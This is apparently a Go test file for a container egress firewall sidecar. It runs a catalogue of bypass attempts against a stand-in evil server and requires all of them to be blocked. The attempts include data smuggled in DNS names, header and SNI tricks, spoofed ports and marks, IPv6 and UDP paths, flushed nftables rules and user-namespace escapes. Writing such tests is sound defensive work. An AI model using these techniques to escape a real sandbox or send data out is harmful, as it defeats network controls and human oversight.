package main

import (
	"bufio"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/google/nftables"
	"github.com/google/nftables/expr"
	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

const (
	asAgent    = "EGRESS_TEST_AGENT"
	agentWaits = "EGRESS_TEST_PATIENCE"
	podSix     = "fd99::2"
	evilSix    = "fd99::66"
)

// patience is the timeout of each step of an attack. tries is the maximum number of attempts of an attack. A longer agentWaits
// changes both, for a network in which the attacks should succeed. There, a delayed resolver gives up before the patience ends.
var patience, tries = 1500 * time.Millisecond, 1

// attack tries to reach the evil server. It returns nil if it reached the server.
type attack func() error

// stream sends texts over a connection, and succeeds if it receives a byte.
func stream(network, address string, control func(fd int), said ...string) attack {
	return func() error {
		dialer := net.Dialer{Timeout: patience, Control: onSocket(control)}
		conn, err := dialer.Dial(network, address)
		if err != nil {
			return err
		}
		defer func() { _ = conn.Close() }()
		_ = conn.SetDeadline(time.Now().Add(2 * patience))
		for number, each := range said {
			if number > 0 {
				time.Sleep(50 * time.Millisecond) // so that each text is a separate packet
			}
			if _, err := io.WriteString(conn, each); err != nil {
				return err
			}
		}
		_, err = conn.Read(make([]byte, 1))
		return err
	}
}

// served sends an HTTP request and succeeds if the evil server answers it.
func served(address, request string) attack {
	return func() error {
		conn, err := net.DialTimeout("tcp", address, patience)
		if err != nil {
			return err
		}
		defer func() { _ = conn.Close() }()
		_ = conn.SetDeadline(time.Now().Add(2 * patience))
		if _, err := io.WriteString(conn, request); err != nil {
			return err
		}
		answer, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			return err
		}
		body, err := io.ReadAll(answer.Body)
		if err == nil && answer.StatusCode == http.StatusOK && !strings.Contains(string(body), evil) {
			return fmt.Errorf("answered by another server: %s", body)
		}
		return err
	}
}

func onSocket(control func(fd int)) func(string, string, syscall.RawConn) error {
	if control == nil {
		return nil
	}
	return func(_, _ string, raw syscall.RawConn) error {
		return raw.Control(func(fd uintptr) { control(int(fd)) })
	}
}

func option(level, name, value int) func(int) {
	return func(fd int) { _ = unix.SetsockoptInt(fd, level, name, value) }
}

func from(port int) func(int) {
	return func(fd int) {
		_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1)
		_ = unix.Bind(fd, &unix.SockaddrInet4{Port: port})
	}
}

// asked looks up a name. It succeeds if a resolver outside the pod answers with records.
func asked(network, server, name string, kind uint16, change func(*dns.Msg)) attack {
	return func() error {
		message := new(dns.Msg).SetQuestion(dns.Fqdn(name), kind)
		if change != nil {
			change(message)
		}
		client := &dns.Client{Net: network, Timeout: patience}
		answer, _, err := client.Exchange(message, server)
		if err == nil && len(answer.Answer) == 0 {
			return errors.New("no records")
		}
		return err
	}
}

func ping(network, address string) attack {
	return func() error {
		family, protocol, kind := unix.AF_INET6, unix.IPPROTO_ICMPV6, byte(128)
		var to unix.Sockaddr = &unix.SockaddrInet6{Addr: [16]byte(net.ParseIP(address))}
		if network == "ip" {
			family, protocol, kind = unix.AF_INET, unix.IPPROTO_ICMP, 8
			to = &unix.SockaddrInet4{Addr: [4]byte(net.ParseIP(address).To4())}
		}
		fd, err := unix.Socket(family, unix.SOCK_DGRAM, protocol)
		if err != nil {
			return err
		}
		defer func() { _ = unix.Close(fd) }()
		_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, timeval())
		if err := unix.Sendto(fd, []byte{kind, 0, 0, 0, 0, 1, 0, 1, 'x'}, 0, to); err != nil {
			return err
		}
		_, _, err = unix.Recvfrom(fd, make([]byte, 99), 0)
		return err
	}
}

func timeval() *unix.Timeval {
	value := unix.NsecToTimeval(patience.Nanoseconds())
	return &value
}

// socketOf connects a stream socket of this family and protocol, and succeeds if it receives a byte.
func socketOf(family, protocol int, fastOpen bool) attack {
	return func() error {
		fd, err := unix.Socket(family, unix.SOCK_STREAM, protocol)
		if err != nil {
			return err
		}
		defer func() { _ = unix.Close(fd) }()
		_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, timeval())
		_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, timeval())
		var to unix.Sockaddr = &unix.SockaddrInet4{Port: 7001, Addr: [4]byte(net.ParseIP(evil).To4())}
		if family == unix.AF_INET6 { // the IPv4 address as an IPv6 address
			to = &unix.SockaddrInet6{Port: 7001, Addr: [16]byte(net.ParseIP(evil).To16())}
		}
		if fastOpen {
			err = unix.Sendto(fd, []byte("x"), unix.MSG_FASTOPEN, to)
		} else if err = unix.Connect(fd, to); err == nil {
			_, err = unix.Write(fd, []byte("x"))
		}
		if err != nil {
			return err
		}
		size, err := unix.Read(fd, make([]byte, 1))
		if err == nil && size == 0 {
			return io.EOF
		}
		return err
	}
}

// after returns an attack that calls first, whose failure does not matter, and then runs another attack.
func after(first func(), then attack) attack {
	return func() error {
		first()
		return then()
	}
}

// hello returns the ClientHello for a name: one TLS record, whose header has its length.
func hello(name string) string {
	one, other := net.Pipe()
	defer func() { _ = other.Close() }()
	go func() {
		_ = tls.Client(one, &tls.Config{ServerName: name, InsecureSkipVerify: true}).Handshake()
	}()
	header := make([]byte, 5)
	_, _ = io.ReadFull(other, header)
	record := make([]byte, binary.BigEndian.Uint16(header[3:]))
	_, _ = io.ReadFull(other, record)
	return string(header) + string(record)
}

func flushed() {
	if conn, err := nftables.New(); err == nil {
		conn.FlushRuleset()
		_ = conn.Flush()
	}
}

func accepted() {
	conn, err := nftables.New()
	if err != nil {
		return
	}
	table := conn.AddTable(&nftables.Table{Name: "attack", Family: nftables.TableFamilyINet})
	first := conn.AddChain(&nftables.Chain{Table: table, Name: "first", Type: nftables.ChainTypeFilter, Hooknum: nftables.ChainHookOutput, Priority: nftables.ChainPriorityFirst})
	conn.AddRule(&nftables.Rule{Table: table, Chain: first, Exprs: []expr.Any{&expr.Verdict{Kind: expr.VerdictAccept}}})
	_ = conn.Flush()
}

// inNewUser runs the attack of this name in a new user namespace, in which the process has all capabilities.
func inNewUser(name string) attack {
	return func() error {
		command := exec.Command("/proc/self/exe")
		command.Env = append(os.Environ(), asAgent+"="+name)
		command.SysProcAttr = &syscall.SysProcAttr{
			Cloneflags:  syscall.CLONE_NEWUSER,
			UidMappings: []syscall.SysProcIDMap{{HostID: 0, Size: 1}}, GidMappings: []syscall.SysProcIDMap{{HostID: 0, Size: 1}},
		}
		out, err := command.Output()
		if err != nil {
			return err
		}
		var results map[string]string
		if err := json.Unmarshal(out, &results); err != nil {
			return err
		}
		if results[name] != "" {
			return errors.New(results[name])
		}
		return nil
	}
}

func attacks() map[string]attack {
	raw, mark := evil+":7001", option(unix.SOL_SOCKET, unix.SO_MARK, 0x4d535450)
	get := func(target, version string, headers ...string) string {
		return "GET " + target + " " + version + "\r\n" + strings.Join(append(headers, "Connection: close"), "\r\n") + "\r\n\r\n"
	}
	routed := func(fd int) {
		options := append([]byte{0x83, 7, 4}, net.ParseIP(evil).To4()...)
		_ = unix.SetsockoptString(fd, unix.SOL_IP, unix.IP_OPTIONS, string(append(options, 0)))
	}
	whole, nameless, other := hello(goodName), hello(""), hello(evilName)
	return map[string]attack{
		"a raw connection":                           stream("tcp", raw, nil, "x"),
		"a connection in which the server speaks":    stream("tcp", evil+":7000", nil),
		"a client that speaks late":                  after(func() { time.Sleep(10 * time.Millisecond) }, stream("tcp", raw, nil, "", "x")),
		"one byte at a time":                         stream("tcp", raw, nil, "G", "E", "T", " "),
		"HTTP by address":                            served(evil+":80", get("/", "HTTP/1.1", "Host: "+evil)),
		"HTTP by name":                               served(evil+":80", get("/", "HTTP/1.1", "Host: "+evilName)),
		"HTTP for an allowed host at its address":    served(evil+":80", get("/", "HTTP/1.1", "Host: "+goodName)),
		"HTTP for two hosts":                         served(evil+":80", get("/", "HTTP/1.1", "Host: "+evilName, "X-Host: "+goodName)),
		"HTTP with an absolute address":              served(evil+":80", get("http://"+evilName+"/", "HTTP/1.1", "Host: "+goodName)),
		"HTTP/1.0 without a host":                    served(evil+":80", get("/", "HTTP/1.0")),
		"HTTP for an allowed host as user":           served(evil+":80", get("http://"+goodName+"@"+evilName+"/", "HTTP/1.1", "Host: "+goodName)),
		"HTTP for a host below an allowed one":       served(evil+":80", get("/", "HTTP/1.1", "Host: x."+goodName+"."+evilName)),
		"HTTP for a host that ends like the allowed": served(evil+":80", get("/", "HTTP/1.1", "Host: x"+goodName)),
		"HTTP on another port":                       served(evil+":8081", get("/", "HTTP/1.1", "Host: "+evilName)),
		"HTTP CONNECT":                               stream("tcp", evil+":80", nil, "CONNECT "+evilName+":443 HTTP/1.1\r\nHost: "+evilName+"\r\n\r\n"),
		"HTTP/2 without TLS":                         stream("tcp", raw, nil, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
		"a request line without a version":           stream("tcp", raw, nil, "GET /\r\n"),
		"TLS for the evil server":                    stream("tcp", raw, nil, other),
		"TLS without a name":                         stream("tcp", raw, nil, nameless),
		"TLS in pieces":                              stream("tcp", raw, nil, other[:1], other[1:9], other[9:]),
		"a broken TLS record":                        stream("tcp", raw, nil, "\x16\x03\x01\x00\x05\x01\xff\xff\xff\xff"),
		"TLS for an allowed name, cut off":           stream("tcp", raw, nil, whole[:40]),
		"from the resolver's port":                   stream("tcp", raw, from(53), "x"),
		"from the probe's port":                      stream("tcp", raw, from(9876), "x"),
		"from a port of the sidecar's":               stream("tcp", raw, from(61003), "x"),
		"from the proxy's port":                      stream("tcp", raw, from(15002), "x"),
		"with the sidecar's mark":                    stream("tcp", raw, mark, "x"),
		"with another mark":                          stream("tcp", raw, option(unix.SOL_SOCKET, unix.SO_MARK, 1), "x"),
		"bound to the device":                        stream("tcp", raw, func(fd int) { _ = unix.BindToDevice(fd, "eth0") }, "x"),
		"transparent":                                stream("tcp", raw, option(unix.SOL_IP, unix.IP_TRANSPARENT, 1), "x"),
		"with a priority":                            stream("tcp", raw, option(unix.SOL_SOCKET, unix.SO_PRIORITY, 6), "x"),
		"past the routing table":                     stream("tcp", raw, option(unix.SOL_SOCKET, unix.SO_DONTROUTE, 1), "x"),
		"source routing":                             stream("tcp", raw, routed, "x"),
		"multipath TCP":                              socketOf(unix.AF_INET, 262, false),
		"data in the first packet":                   socketOf(unix.AF_INET, 0, true),
		"IPv6":                                       stream("tcp", "["+evilSix+"]:7001", nil, "x"),
		"IPv6 by HTTP":                               stream("tcp", "["+evilSix+"]:80", nil, get("/", "HTTP/1.1", "Host: "+evilName)),
		"IPv4 in IPv6":                               socketOf(unix.AF_INET6, 0, false),
		"UDP":                                        stream("udp", evil+":5353", nil, "x"),
		"UDP from the resolver's port":               stream("udp", evil+":5353", from(53), "x"),
		"UDP from a port of the sidecar's":           stream("udp", evil+":5353", from(61004), "x"),
		"UDP with the sidecar's mark":                stream("udp", evil+":5353", mark, "x"),
		"UDP to the port of QUIC":                    stream("udp", evil+":443", nil, "x"),
		"UDP to the resolver's host":                 stream("udp", node+":5353", nil, "x"),
		"UDP over IPv6":                              stream("udp", "["+evilSix+"]:5353", nil, "x"),
		"ping":                                       ping("ip", evil),
		"ping over IPv6":                             ping("ip6", evilSix),
		"a name":                                     asked("udp", node+":53", evilName, dns.TypeA, nil),
		"a text of a name":                           asked("udp", node+":53", evilName, dns.TypeTXT, nil),
		"data in a name":                             asked("udp", node+":53", "secret."+evilName, dns.TypeA, nil),
		"data in a name, by TCP":                     asked("tcp", node+":53", "secret."+evilName, dns.TypeA, nil),
		"a text of the allowed name":                 asked("udp", node+":53", goodName, dns.TypeTXT, nil),
		"a resolver outside":                         asked("udp", evil+":53", "secret."+evilName, dns.TypeTXT, nil),
		"a resolver outside, by TCP":                 asked("tcp", evil+":53", "secret."+evilName, dns.TypeTXT, nil),
		"a query with an option": asked("udp", evil+":53", "secret."+evilName, dns.TypeA, func(m *dns.Msg) {
			m.SetEdns0(1232, true)
		}),
		"as another user": after(func() {}, func() error {
			return inAnotherUser(65532)
		}),
		"after deleting the rules":              after(flushed, stream("tcp", raw, nil, "x")),
		"after accepting everything":            after(accepted, stream("tcp", raw, nil, "x")),
		"the mark in a user namespace":          inNewUser("with the sidecar's mark"),
		"deleted rules in a user namespace":     inNewUser("after deleting the rules"),
		"the device bound in a user namespace":  inNewUser("bound to the device"),
		"source routing in a user namespace":    inNewUser("source routing"),
		"transparent in a user namespace":       inNewUser("transparent"),
		"UDP with the mark in a user namespace": inNewUser("UDP with the sidecar's mark"),
	}
}

// inAnotherUser runs the attack "a raw connection" as the user with this id, who has no capabilities.
func inAnotherUser(id uint32) error {
	command := exec.Command("/proc/self/exe")
	command.Env = append(os.Environ(), asAgent+"=a raw connection")
	command.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: id, Gid: id}}
	out, err := command.Output()
	if err != nil {
		return err
	}
	if !strings.Contains(string(out), `:""`) {
		return errors.New(string(out))
	}
	return nil
}

// tryAttacks prints the error of each attack as JSON; "" if the attack reached the evil server. only: the name of one attack, or
// "all".
func tryAttacks(only string) {
	if waits, err := time.ParseDuration(os.Getenv(agentWaits)); err == nil && waits > patience {
		patience, tries = waits, 3
	}
	results, mutex, group := map[string]string{}, sync.Mutex{}, sync.WaitGroup{}
	for name, try := range attacks() {
		if only != "all" && only != name {
			continue
		}
		group.Go(func() {
			err := try()
			for number := 1; err != nil && number < tries; number++ {
				err = try()
			}
			mutex.Lock()
			defer mutex.Unlock()
			if results[name] = ""; err != nil {
				results[name] = err.Error()
			}
		})
	}
	group.Wait()
	_ = json.NewEncoder(os.Stdout).Encode(results)
}

// attacked runs the attacks as root of a container: with Docker's capabilities, but without NET_RAW. It returns the names of the
// attacks that reached the evil server, and the names and errors of the other attacks. wait: their patience.
func attacked(t *testing.T, wait time.Duration) (reached, stopped []string) {
	t.Helper()
	kept := "-all,+chown,+dac_override,+fowner,+fsetid,+kill,+setgid,+setuid,+setpcap,+net_bind_service,+sys_chroot,+mknod,+audit_write,+setfcap"
	own, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	command := exec.Command("setpriv", "--bounding-set", kept, "--inh-caps", "-all", own)
	command.Env = append(os.Environ(), asAgent+"=all", agentWaits+"="+wait.String())
	command.Stderr = os.Stderr
	out, err := command.Output()
	if err != nil {
		t.Fatal(err)
	}
	var results map[string]string
	if err := json.Unmarshal(out, &results); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	for _, name := range slices.Sorted(maps.Keys(results)) {
		if results[name] == "" {
			reached = append(reached, name)
		} else {
			stopped = append(stopped, name+": "+results[name])
		}
	}
	return reached, stopped
}

func TestNoAttackGetsOut(t *testing.T) {
	s := start(t)
	for name, change := range map[string]func(){"none": func() { s.none() }, "allowlist": func() { s.allow(goodName) }} {
		change()
		if reached, stopped := attacked(t, patience); len(reached) > 0 || len(stopped) < 40 {
			t.Errorf("%s: reached by %q, of %d", name, reached, len(stopped))
		}
	}
	s.kill()
	if reached, _ := attacked(t, patience); len(reached) > 0 {
		t.Errorf("without the sidecar: reached by %q", reached)
	}
	s.run()
	s.public()
	if _, stopped := attacked(t, generous); len(stopped) > 0 {
		t.Errorf("in public not reached by %q", stopped)
	}
}
